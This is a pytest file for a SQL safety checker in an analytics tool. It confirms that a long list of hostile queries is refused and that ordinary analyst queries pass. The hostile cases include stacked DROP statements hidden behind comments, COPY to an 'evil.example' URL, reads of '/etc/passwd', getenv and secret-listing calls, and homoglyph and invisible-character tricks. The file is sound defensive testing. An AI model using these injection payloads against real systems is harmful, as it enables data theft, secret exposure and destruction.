"""Injection defenses of the SQL safety check: hostile inputs refused, analyst SQL accepted.

Every hostile input must raise UnsafeQuery (a 400, never a 500) with a message that says
what was refused; the substring each case expects is part of the contract with the UI.
"""

from __future__ import annotations

import pickle

import pytest

from causality.query.errors import QueryError, UnsafeQuery
from causality.query.safety import MAX_SQL_CHARS, check_select

HOSTILE = [
    # -- DDL
    pytest.param("CREATE TABLE t AS SELECT * FROM events", "not CREATE", id="ddl-create-table"),
    pytest.param("DROP TABLE events", "not DROP", id="ddl-drop"),
    pytest.param("ALTER TABLE events ADD COLUMN x INT", "not ALTER", id="ddl-alter"),
    pytest.param("CREATE MACRO m(a) AS a", "not CREATE", id="ddl-macro"),
    pytest.param(
        "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')", "not CREATE", id="ddl-secret"
    ),
    pytest.param("CREATE OR REPLACE VIEW events AS SELECT 1", "not CREATE", id="ddl-view"),
    # -- DML, also disguised
    pytest.param("INSERT INTO events SELECT * FROM events", "not INSERT", id="dml-insert"),
    pytest.param("UPDATE events SET app_id = 'x'", "not UPDATE", id="dml-update"),
    pytest.param("DELETE FROM events", "not DELETE", id="dml-delete"),
    pytest.param(
        "WITH x AS (DELETE FROM events RETURNING *) SELECT * FROM x", "DELETE", id="dml-in-cte"
    ),
    pytest.param(
        "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x",
        "INSERT",
        id="dml-insert-in-cte",
    ),
    pytest.param("SELECT * INTO stolen FROM events", "INTO", id="select-into"),
    pytest.param("SELECT * FROM events FOR UPDATE", "LOCK", id="select-for-update"),
    # -- COPY, ATTACH, PRAGMA, SET, INSTALL, LOAD, CALL and other statements
    pytest.param("COPY events TO '/tmp/out.csv'", "not COPY", id="copy-to-file"),
    pytest.param(
        "COPY (SELECT * FROM events) TO 'https://evil.example/x'", "not COPY", id="copy-to-url"
    ),
    pytest.param("ATTACH '/tmp/other.db' AS other", "not ATTACH", id="attach"),
    pytest.param("DETACH other", "not DETACH", id="detach"),
    pytest.param("PRAGMA database_list", "not PRAGMA", id="pragma"),
    pytest.param("SET enable_external_access = true", "not SET", id="set-access"),
    pytest.param("SET memory_limit = '100GB'", "not SET", id="set-memory"),
    pytest.param("RESET lock_configuration", "not RESET", id="reset"),
    pytest.param("INSTALL httpfs", "not INSTALL", id="install"),
    pytest.param("LOAD httpfs", "not LOAD", id="load"),
    pytest.param("CALL pragma_version()", "not CALL", id="call"),
    pytest.param("EXPORT DATABASE '/tmp/dump'", "could not parse", id="export"),
    pytest.param("USE other", "not USE", id="use"),
    pytest.param("DESCRIBE events", "not DESCRIBE", id="describe"),
    pytest.param("SUMMARIZE events", "not SUMMARIZE", id="summarize"),
    pytest.param("EXPLAIN ANALYZE SELECT * FROM events", "not EXPLAIN", id="explain"),
    pytest.param("CHECKPOINT", "not CHECKPOINT", id="checkpoint"),
    pytest.param("BEGIN TRANSACTION", "not TRANSACTION", id="transaction"),
    pytest.param("PIVOT events ON platform USING count(*)", "not PIVOT", id="pivot-statement"),
    # -- more than one statement, also hidden behind comments
    pytest.param("SELECT 1; DROP TABLE events", "exactly one statement", id="two-statements"),
    pytest.param(
        "SELECT * FROM events; ATTACH 'x' AS y;", "exactly one statement", id="trailing-attach"
    ),
    pytest.param(
        "SELECT 1 --\n; DROP TABLE events", "exactly one statement", id="line-comment-then-drop"
    ),
    pytest.param(
        "SELECT 1 /* ; */ ; COPY events TO 'x'", "exactly one statement", id="block-comment"
    ),
    pytest.param("/* SELECT */ DELETE FROM events", "not DELETE", id="comment-disguise"),
    pytest.param("SELECT * FROM/**/read_csv('/etc/passwd')", "read_csv", id="comment-glue"),
    # -- file and URL reading table functions
    pytest.param("SELECT * FROM read_csv('/etc/passwd')", "read_csv", id="read-csv"),
    pytest.param("SELECT * FROM read_csv_auto('/etc/passwd')", "read_csv", id="read-csv-auto"),
    pytest.param(
        "SELECT * FROM read_parquet('/data/warehouse/events/**/*.parquet')",
        "read_parquet",
        id="read-parquet-warehouse",
    ),
    pytest.param("SELECT * FROM parquet_scan('x.parquet')", "parquet_scan", id="parquet-scan"),
    pytest.param(
        "SELECT * FROM read_json_auto('https://evil.example/x.json')",
        "read_json_auto",
        id="read-json-url",
    ),
    pytest.param("SELECT * FROM read_text('/etc/passwd')", "read_text", id="read-text"),
    pytest.param("SELECT * FROM read_blob('/etc/passwd')", "read_blob", id="read-blob"),
    pytest.param("SELECT * FROM glob('/**')", "glob", id="glob"),
    pytest.param("SELECT * FROM sniff_csv('/etc/passwd')", "sniff_csv", id="sniff-csv"),
    pytest.param("SELECT * FROM iceberg_scan('s3://x/t')", "iceberg_scan", id="iceberg-scan"),
    pytest.param("SELECT * FROM sqlite_scan('x.db', 't')", "sqlite_scan", id="sqlite-scan"),
    pytest.param("SELECT * FROM query('SELECT 1')", "query", id="query-function"),
    pytest.param("SELECT * FROM '/etc/passwd'", "unknown table", id="replacement-scan"),
    pytest.param('SELECT * FROM "s3://bucket/x.parquet"', "unknown table", id="quoted-url"),
    pytest.param("SELECT * FROM generate_series(1, 3)", "table functions", id="table-function"),
    # -- scalar functions touching files, settings, SQL execution
    pytest.param("SELECT getenv('HOME')", "getenv", id="getenv"),
    pytest.param(
        "SELECT current_setting('allowed_directories')", "current_setting", id="current-setting"
    ),
    pytest.param(
        "SELECT json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
        "json_execute_serialized_sql",
        id="execute-serialized-sql",
    ),
    pytest.param("SELECT getvariable('x')", "getvariable", id="getvariable"),
    pytest.param("SELECT nextval('seq')", "nextval", id="nextval"),
    pytest.param("SELECT pg_sleep(100)", "pg_sleep", id="sleep"),
    pytest.param("SELECT 'x'.read_text()", "read_text", id="method-call"),
    pytest.param("SELECT current_database()", "current_database", id="current-database"),
    # -- system catalogs and internal names
    pytest.param("SELECT * FROM information_schema.tables", "qualified", id="info-schema"),
    pytest.param(
        'SELECT * FROM "Information_Schema"."Tables"', "qualified", id="info-schema-quoted"
    ),
    pytest.param("SELECT * FROM duckdb_tables()", "duckdb_tables", id="duckdb-tables"),
    pytest.param("SELECT * FROM duckdb_settings()", "duckdb_settings", id="duckdb-settings"),
    pytest.param("SELECT * FROM duckdb_secrets()", "duckdb_secrets", id="duckdb-secrets"),
    pytest.param("SELECT * FROM pg_catalog.pg_tables", "qualified", id="pg-catalog"),
    pytest.param("SELECT * FROM sqlite_master", "unknown table", id="sqlite-master"),
    pytest.param("SELECT * FROM duckdb_views", "unknown table", id="duckdb-views-name"),
    pytest.param("SELECT * FROM system.main.duckdb_tables", "qualified", id="system-catalog"),
    pytest.param("SELECT * FROM main.events", "qualified", id="schema-prefix"),
    pytest.param("SELECT * FROM memory.main.events", "qualified", id="catalog-prefix"),
    pytest.param(
        "SELECT * FROM causality_internal.events_raw", "qualified", id="internal-raw-view"
    ),
    pytest.param(
        'SELECT * FROM "causality_internal"."events_raw"', "qualified", id="internal-quoted"
    ),
    pytest.param("SELECT * FROM events_raw", "unknown table", id="internal-unqualified"),
    # -- quoting and case games
    pytest.param("SeLeCt * FrOm ReAd_CsV('/etc/passwd')", "read_csv", id="mixed-case"),
    pytest.param("SELECT * FROM \"read_csv\"('/etc/passwd')", "read_csv", id="quoted-function"),
    pytest.param("SELECT \"getenv\"('HOME')", "getenv", id="quoted-scalar"),
    pytest.param(
        'SELECT * FROM events WHERE app_id IN (SELECT * FROM "events"."x")',
        "qualified",
        id="quoted-qualifier",
    ),
    # -- CTE shadowing and scope
    pytest.param(
        "WITH events AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM events",
        "CTE may not be named",
        id="cte-named-events-with-file",
    ),
    pytest.param(
        "WITH events AS (SELECT 'other' AS app_id) SELECT * FROM events",
        "CTE may not be named",
        id="cte-shadows-events",
    ),
    pytest.param(
        "SELECT * FROM (WITH duckdb_settings AS (SELECT 1) SELECT 1) s, duckdb_settings",
        "unknown table",
        id="cte-out-of-scope",
    ),
    pytest.param(
        "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
        "unknown table 'b'",
        id="cte-forward-reference",
    ),
    # -- nested subqueries reaching files
    pytest.param(
        "SELECT (SELECT count(*) FROM read_csv('/etc/passwd')) FROM events",
        "read_csv",
        id="scalar-subquery-file",
    ),
    pytest.param(
        "SELECT * FROM events WHERE device_id IN (SELECT column0 FROM read_csv('/etc/passwd'))",
        "read_csv",
        id="in-subquery-file",
    ),
    pytest.param(
        "SELECT * FROM events WHERE EXISTS (SELECT 1 FROM (SELECT * FROM (SELECT * FROM "
        "read_parquet('x.parquet'))))",
        "read_parquet",
        id="deep-exists-file",
    ),
    pytest.param(
        "SELECT * FROM events e, LATERAL (SELECT * FROM read_text(e.properties))",
        "read_text",
        id="lateral-file",
    ),
    pytest.param(
        "SELECT * FROM events JOIN read_csv('/etc/passwd') ON true", "read_csv", id="join-file"
    ),
    pytest.param(
        "SELECT * FROM events UNION ALL SELECT * FROM read_csv('/etc/passwd')",
        "read_csv",
        id="union-file",
    ),
    # -- invisible and look-alike characters
    pytest.param("SELECT * FROM events\u200b; DROP TABLE events", "U+200B", id="zero-width-space"),
    pytest.param("SELECT * FROM read\u00ad_csv('/etc/passwd')", "U+00AD", id="soft-hyphen"),
    pytest.param("SELECT * FROM events WHERE app_id = 'a\u202e'", "U+202E", id="bidi-in-literal"),
    pytest.param("SELECT * FROM events\u2066 WHERE true", "U+2066", id="bidi-isolate"),
    pytest.param("SELECT 1\x00; DROP TABLE events", "U+0000", id="nul-byte"),
    pytest.param("\ufeffSELECT * FROM events", "U+FEFF", id="bom"),
    pytest.param("SELECT * FROM events\u2028WHERE true", "U+2028", id="line-separator"),
    pytest.param("\uff33\uff25\uff2c\uff25\uff23\uff34 * FROM events", "U+FF33", id="fullwidth"),
    pytest.param("SELECT * FROM \u0435vents", "U+0435", id="cyrillic-homoglyph"),
    pytest.param("SELECT * FROM events\u00a0WHERE true", "U+00A0", id="no-break-space"),
    # -- inputs built to exhaust a parser or the checker
    pytest.param("SELECT " + "(" * 5_000 + "1" + ")" * 5_000, "nests deeper", id="parens"),
    pytest.param("SELECT " + "[" * 200 + "1" + "]" * 200, "nests deeper", id="brackets"),
    pytest.param(
        "SELECT " + "CASE WHEN true THEN " * 60 + "1" + " END" * 60, "nests deeper", id="case"
    ),
    pytest.param("SELECT " + "NOT " * 3_000 + "true", "nested too deeply", id="not-chain"),
    pytest.param(
        "SELECT 1 FROM events WHERE " + " OR ".join(["true"] * 1_500),
        "nests deeper",
        id="long-or-chain",
    ),
    pytest.param("SELECT 1" + ",1" * 25_000, "tokens", id="too-many-tokens"),
    pytest.param("SELECT '" + "x" * MAX_SQL_CHARS + "'", "longer than", id="too-long"),
    # -- parameters and odd limits
    pytest.param("SELECT $1", "parameters", id="positional-parameter"),
    pytest.param("SELECT ?", "parameters", id="question-parameter"),
    pytest.param("", "empty", id="empty"),
    pytest.param("  -- only a comment", "exactly one statement", id="only-comment"),
    pytest.param("SELECT * FROM events AT (VERSION => 1)", "unsupported clause", id="time-travel"),
]


@pytest.mark.parametrize(("sql", "expected"), HOSTILE)
def test_hostile_sql_is_refused_with_a_clear_message(sql: str, expected: str) -> None:
    with pytest.raises(UnsafeQuery) as info:
        check_select(sql)
    assert expected.lower() in info.value.message.lower(), info.value.message
    assert isinstance(info.value, QueryError)
    assert info.value.code == "unsafe_sql"


def test_there_are_enough_hostile_cases() -> None:
    assert len(HOSTILE) >= 40


def test_unsafe_query_carries_a_position_and_survives_pickling() -> None:
    sql = "SELECT * FROM events WHERE x = '\u200b'"
    with pytest.raises(UnsafeQuery) as info:
        check_select(sql)
    assert info.value.position == sql.index("\u200b")
    copy = pickle.loads(pickle.dumps(info.value))
    assert (copy.message, copy.position) == (info.value.message, info.value.position)


ANALYST = [
    "SELECT * FROM events",
    "FROM events",
    "SELECT * FROM events;",
    "(SELECT * FROM events)",
    "WITH daily AS (SELECT date_trunc('day', timestamp) AS day, count(*) AS n FROM events "
    "GROUP BY ALL) SELECT day, n, avg(n) OVER (ORDER BY day ROWS 6 PRECEDING) FROM daily",
    "SELECT device_id, event_type, row_number() OVER (PARTITION BY device_id ORDER BY timestamp) "
    "FROM events QUALIFY row_number() OVER (PARTITION BY device_id ORDER BY timestamp) = 1",
    "SELECT properties->>'$.screen_name' AS screen, json_extract(properties, '$.params') AS p, "
    "json_extract_string(properties, '$.url') FROM events WHERE event_type = 'screen_view'",
    "SELECT app_id, platform, count(DISTINCT device_id) FROM events GROUP BY ALL ORDER BY 3 DESC",
    "SELECT count(*) FILTER (WHERE event_type = 'login') AS logins, approx_count_distinct(user_id) "
    "FROM events WHERE timestamp >= now() - INTERVAL 7 DAY",
    "SELECT session_id, list(event_type ORDER BY timestamp) AS path FROM events GROUP BY 1",
    "SELECT time_bucket(INTERVAL '1 hour', timestamp) AS hour, count(*) FROM events GROUP BY 1",
    "SELECT * FROM events e JOIN events f ON e.device_id = f.device_id "
    "AND f.timestamp > e.timestamp WHERE e.event_type = 'signup' "
    "AND f.event_type = 'purchase_complete'",
    "SELECT * FROM events WHERE device_id IN (SELECT device_id FROM events WHERE "
    "event_type = 'signup')",
    "SELECT unnest(generate_series(DATE '2024-01-01', DATE '2024-01-31', INTERVAL 1 DAY)) AS day",
    "SELECT median(screen_width), quantile_cont(screen_height, 0.9), arg_max(platform, timestamp) "
    "FROM events",
    "SELECT CASE WHEN is_emulator THEN 'emu' ELSE coalesce(platform, 'unknown') END AS kind, "
    "count(*) FROM events GROUP BY 1",
    'SELECT regexp_extract(properties, \'"order_id":"([^"]+)"\', 1) FROM events',
    'SELECT "Umsätze" FROM (SELECT sum(1) AS "Umsätze" FROM events)',
    "SELECT 'Zürich ✓ 東京' AS city FROM events WHERE locale LIKE 'de%' -- Kommentar: ü",
    "SELECT * FROM event_columns",
    "SELECT 1 AS a UNION ALL SELECT 2 ORDER BY 1",
    "SELECT * FROM events USING SAMPLE 10%",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
    "SELECT strftime(timestamp, '%Y-%m-%d') AS day, date_diff('day', timestamp, now()) FROM events",
]


@pytest.mark.parametrize("sql", ANALYST)
def test_analyst_sql_is_accepted(sql: str) -> None:
    check_select(sql)
